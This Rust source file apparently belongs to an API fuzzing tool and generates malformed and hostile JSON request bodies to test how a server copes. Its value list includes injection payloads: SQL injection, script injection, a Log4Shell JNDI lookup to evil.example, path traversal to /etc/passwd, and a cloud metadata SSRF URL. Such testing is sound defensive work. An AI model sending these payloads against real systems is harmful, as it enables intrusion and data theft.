//! Bodies that are no JSON, or JSON of a kind that nobody asked for.

use crate::headers::SCRIPT;
use crate::request::Draft;
use serde_json::{Map, Value, json};

/// More than a body may have.
const MEGABYTE: usize = 1024 * 1024;

/// What is no JSON as it stands, by name.
fn raw() -> Vec<(&'static str, Vec<u8>)> {
    let nested = |open: &str, close: &str, depth: usize| {
        let text = format!("{}{}", open.repeat(depth), close.repeat(depth));
        text.into_bytes()
    };
    vec![
        ("empty", Vec::new()),
        ("a blank", b" ".to_vec()),
        ("null", b"null".to_vec()),
        ("a text", b"\"x\"".to_vec()),
        ("a number", b"1e400".to_vec()),
        ("NaN", b"{\"name\":NaN}".to_vec()),
        ("Infinity", b"{\"limit\":-Infinity}".to_vec()),
        ("a list", b"[]".to_vec()),
        ("lists 10 000 deep", nested("[", "]", 10_000)),
        ("objects 10 000 deep", nested("{\"a\":", "}", 10_000)),
        ("lists 100 deep", nested("[", "]", 100)),
        ("a byte order mark", b"\xef\xbb\xbf{}".to_vec()),
        ("UTF-16", b"\xff\xfe{\0}\0".to_vec()),
        ("no UTF-8", b"{\"name\":\"\xff\xfe\"}".to_vec()),
        ("an overlong NUL", b"{\"name\":\"\xc0\x80\"}".to_vec()),
        ("half a surrogate pair", br#"{"name":"\ud800"}"#.to_vec()),
        (
            "surrogates the wrong way",
            br#"{"name":"\udc00\ud800"}"#.to_vec(),
        ),
        ("a raw NUL", b"{\"name\":\"a\0b\"}".to_vec()),
        ("a raw line feed", b"{\"name\":\"a\nb\"}".to_vec()),
        ("a comma too many", b"{\"name\":\"a\",}".to_vec()),
        ("single quotes", b"{'name':'a'}".to_vec()),
        ("a comment", b"{/* */\"name\":\"a\"}".to_vec()),
        ("two values", b"{}{}".to_vec()),
        ("a form", b"username=a&password=b".to_vec()),
        ("HTML", SCRIPT.as_bytes().to_vec()),
        (
            "a text of 1 MB",
            format!("{{\"name\":\"{}\"}}", "x".repeat(MEGABYTE)).into_bytes(),
        ),
        (
            "99 KB of lists",
            format!("{{\"name\":[{}1]}}", "1,".repeat(49_000)).into_bytes(),
        ),
        ("10 000 members", members(10_000)),
        (
            "prototypes",
            br#"{"__proto__":{"a":1},"constructor":{"prototype":{"a":1}}}"#.to_vec(),
        ),
        ("gzip's beginning", b"\x1f\x8b\x08\0\0\0\0\0\0\x03".to_vec()),
    ]
}

fn members(count: usize) -> Vec<u8> {
    let members: Vec<String> = (0..count).map(|number| format!("\"{number}\":1")).collect();
    format!("{{{}}}", members.join(",")).into_bytes()
}

/// What can stand in place of any member, as JSON text: some of it serde would not write.
const VALUES: &[&str] = &[
    "null",
    "true",
    "0",
    "-1",
    "1.5",
    "9.0",
    "1e308",
    "99999999999999999999999999999999",
    "-9223372036854775809",
    "\"\"",
    "\" \"",
    "\"\\u0000\"",
    "\"\\u0000\\u0001\\u001b[31m\\r\\n\"",
    "\"\\ud83d\\ude00\"",
    "\"\\ud800\"",
    "\"\\u202e\\ufeff\\u2028\"",
    "\"<script>canary</script>\"",
    "\"' or 1=1; drop table users --\"",
    "\"${jndi:ldap://evil.example/a}\"",
    "\"../../../../etc/passwd\"",
    "\"javascript:alert(1)\"",
    "\"https://user:secret@[::1]:99999/%zz\"",
    "\"http://169.254.169.254/latest/meta-data/\"",
    "\"file:///etc/passwd\"",
    "\"%s%n%x\"",
    "\"0000-00-00\"",
    "\"9999-12-31T23:59:60.999999999Z\"",
    "[]",
    "[null]",
    "[[[[]]]]",
    "[\"a\",1,null,{}]",
    "{}",
    "{\"\":{\"\":null}}",
];

/// Every way to break the body of a request that has one, or should have none.
pub fn of_draft(draft: &Draft) -> Vec<Draft> {
    let mut drafts = Vec::new();
    let mut add = |how: String, body: Vec<u8>| {
        let mut broken = draft.clone();
        if !broken
            .headers
            .iter()
            .any(|(name, _)| name.eq_ignore_ascii_case("content-type"))
        {
            broken = broken.with("content-type", "application/json");
        }
        broken.body = body;
        drafts.push(broken.broken(how));
    };
    for (name, body) in raw() {
        add(format!("body: {name}"), body);
    }
    let Ok(Value::Object(object)) = serde_json::from_slice(&draft.body) else {
        return drafts;
    };
    let length = draft.body.len();
    for end in [1, length / 2, length.saturating_sub(1)] {
        add(format!("cut at {end}"), draft.body[..end].to_vec());
    }
    for (name, text) in of_members(&object) {
        add(name, text.into_bytes());
    }
    drafts
}

/// Each member alone wrong, missing, twice, of another name, and long.
fn of_members(object: &Map<String, Value>) -> Vec<(String, String)> {
    let mut texts = Vec::new();
    for name in object.keys() {
        for value in VALUES {
            texts.push((format!("{name}: {value}"), with_text(object, name, value)));
        }
        let long = json!("€".repeat(30_000)).to_string();
        texts.push((format!("{name}: 90 KB"), with_text(object, name, &long)));
        let mut without = object.clone();
        without.remove(name);
        texts.push((format!("no {name}"), Value::Object(without).to_string()));
        let twice = with_text(object, name, "1").replacen('{', &format!("{{{}:2,", json!(name)), 1);
        texts.push((format!("{name} twice"), twice));
        if let Value::Object(inner) = &object[name] {
            for (what, text) in of_members(inner) {
                let text = with_text(object, name, &text);
                texts.push((format!("{name}.{what}"), text));
            }
        }
    }
    texts
}

/// The object with a member's value given as text, whatever that is.
fn with_text(object: &Map<String, Value>, name: &str, text: &str) -> String {
    let member = |(other, value): (&String, &Value)| {
        let value = if other == name {
            text.to_owned()
        } else {
            value.to_string()
        };
        format!("{}:{value}", json!(other))
    };
    let members: Vec<String> = object.iter().map(member).collect();
    format!("{{{}}}", members.join(","))
}
